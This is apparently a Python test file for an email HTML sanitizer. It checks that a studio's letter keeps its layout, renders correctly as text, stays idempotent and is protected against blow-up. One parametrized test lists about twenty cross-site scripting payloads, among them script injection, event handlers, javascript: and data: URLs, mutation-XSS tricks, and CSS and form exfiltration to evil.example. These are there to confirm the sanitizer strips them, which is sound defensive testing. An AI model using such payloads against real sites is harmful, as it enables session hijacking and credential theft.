"""HTML of letters: nothing in it acts, a letter looks as it was written, and no HTML takes long to read."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as some

from app.outbox.html import clean, text_of

_LETTER = """<!DOCTYPE html><html><head><title>x</title><style>p{color:red}</style></head>
<body bgcolor="#fff">
<center><table width="600" cellpadding="4" style="border-collapse:collapse;position:fixed"><tr>
<td align="center" style="color:#333; background:#eee"><h1>Your images are&nbsp;online</h1>
<p>Dear Laura,<br>see <a href="https://studio.example/g/1">your gallery</a> until 1&nbsp;August.
<p>Write to <a href="mailto:jo@studio.example">jo@studio.example</a>.
<ul><li>8x10<li>5x7</ul><img src="https://studio.example/logo.png" alt="Harbor Light" width="80">
</td></tr></table></center><!-- never --></body></html>"""


def test_a_letter_looks_as_it_was_written() -> None:
    cleaned = clean(_LETTER)
    assert '<table width="600" cellpadding="4" style="border-collapse:collapse">' in cleaned
    assert '<td align="center" style="color:#333;background:#eee">' in cleaned
    assert '<a href="https://studio.example/g/1" rel="noopener noreferrer">your gallery</a>' in cleaned
    assert '<img src="https://studio.example/logo.png" alt="Harbor Light" width="80">' in cleaned
    assert "<li>8x10</li><li>5x7</li></ul>" in cleaned
    assert not any(word in cleaned for word in ("never", "color:red", "<title", "<body", "fixed"))


def test_a_letter_is_told_as_text() -> None:
    assert text_of(_LETTER) == (
        "Your images are online\n\nDear Laura,\nsee your gallery (https://studio.example/g/1) until 1 August."
        "\n\nWrite to jo@studio.example.\n\n- 8x10\n- 5x7\n\nHarbor Light"
    )
    assert text_of("<table><tr><td>Print</td><td>45.00</td></tr><tr><td>Sum</td></tr></table>") == (
        "Print 45.00\nSum"
    )
    assert text_of("1 &lt; 2 & 3 < 4 <b>bold</b>") == "1 < 2 & 3 < 4 bold"


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</script>",
        "<p onclick=alert(1)>x</p>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='java\nscript:alert(1)'>x</a>",
        "<a href='&#106;avascript:alert(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='//evil.example'>x</a><a href='/v1/users'>x</a>",
        "<img src=x onerror=alert(1)><img src='data:image/svg+xml,alert(1)'>",
        "<svg><script>alert(1)</script></svg><math><mtext><img src=x onerror=alert(1)>",
        "<p style='background:url(https://evil.example)'>x</p>",
        "<p style='color:expression(alert(1))'>x</p>",
        r"<p style='background:u\72l(https://evil.example)'>x</p>",
        "<style>@import 'https://evil.example'</style><link rel=stylesheet href=https://evil.example>",
        "<form action=https://evil.example><input name=password><button>x</button></form>",
        "<iframe src=https://evil.example></iframe><object data=https://evil.example></object>",
        "<meta http-equiv=refresh content='0;https://evil.example'><base href=https://evil.example>",
        "<p title='</p><script>alert(1)</script>'>x",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<!--><script>alert(1)</script>-->",
        "<table><td><style><!--</style><img src=x onerror=alert(1)>--></style>",
    ],
)
def test_nothing_in_a_letter_acts(html: str) -> None:
    cleaned = clean(html)
    tags = "".join(re.findall(r"<[^>]*>", cleaned)).lower()
    assert not re.search(r"script|alert|evil|on\w+=|expression|form|input|/v1|data:", tags), cleaned


_PIECES = some.sampled_from(
    [
        *("<b>", "</b>", "<font color=1>", "<font color=2>", "</font>", "<p>", "</p>", "<div>", "</div>"),
        *("<table>", "</table>", "<tr>", "</tr>", "<td>", "</td>", "<caption>", "<col>", "<colgroup>"),
        *("<ul>", "<li>", "</ul>", "<dl>", "<dd>", "<a href=http://x>", "</a>", "<h1>", "<h2>", "<pre>"),
        *("<svg>", "</svg>", "<!--", "-->", "<ruby>", "<rt>", "<center>", "<script>", "</script>", "<hr>"),
        *("<a title='\"<'>", "x", " ", "&amp;", "&lt;", "<", ">", '"', "'", "<br>"),
    ]
)


@given(some.lists(_PIECES, max_size=60))
def test_what_is_clean_stays_as_it_is(pieces: list[str]) -> None:
    cleaned = clean("".join(pieces))
    assert clean(cleaned) == cleaned


@pytest.mark.parametrize(
    "piece",
    [
        *("<div>", "<b><p>", "<font color={}>", "<font color={}><p>", "<table><tr><td>", "<a '\"", "<!--"),
        *("<table><font color={}>x<tr>", "<ul><li>", "<a ", "<a b=", "<dl><dd>", "<svg>"),
    ],
)
def test_no_html_comes_to_more_than_a_few_times_its_length(piece: str) -> None:
    """Read as it stands, the worst of these took all the memory there was."""
    html = "".join(piece.replace("{}", str(nth)) for nth in range(20_000))
    assert len(clean(html)) < 6 * len(html)
    assert len(text_of(html)) <= len(html)
